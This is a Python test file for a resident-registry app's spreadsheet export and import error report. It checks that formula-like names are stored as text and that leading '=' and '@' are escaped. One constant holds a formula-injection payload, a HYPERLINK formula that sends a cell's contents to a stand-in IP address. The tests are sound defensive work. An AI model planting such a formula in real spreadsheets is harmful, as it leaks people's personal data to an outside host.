"""Spreadsheets never run data: a name that looks like a formula is exported as text, and
the import error report cannot start a cell with a formula either."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from wangge.registry.importer import ImportReport, RowError, write_error_report
from wangge.registry.models import Resident
from wangge.registry.tests import factories

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://198.51.100.1/?leak="&B2,"点击")'


def test_a_formula_like_name_is_exported_as_text(login_as) -> None:
    r = factories.person_in("胜利社区第1网格", name="王测试", number=factories.id_number())
    Resident.objects.filter(pk=r.pk).update(name=FORMULA)  # as an old import might have left it
    xlsx = login_as("gridworker").get("/api/v1/registry/export.xlsx", {"q": FORMULA[:5]})
    ws = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_the_error_report_neutralises_formula_cells(tmp_path: Path) -> None:
    report = ImportReport(kind="residents", mode="all")
    report.errors.append(RowError(row=2, column="姓名", reason="=1+2 is not a name"))
    report.errors.append(RowError(row=3, column="@SUM(A1)", reason="plain reason"))
    path = tmp_path / "errors.csv"
    write_error_report(report, path)
    rows = list(csv.reader(path.open(encoding="utf-8-sig")))
    assert rows[1] == ["2", "姓名", "'=1+2 is not a name"]
    assert rows[2] == ["3", "'@SUM(A1)", "plain reason"]
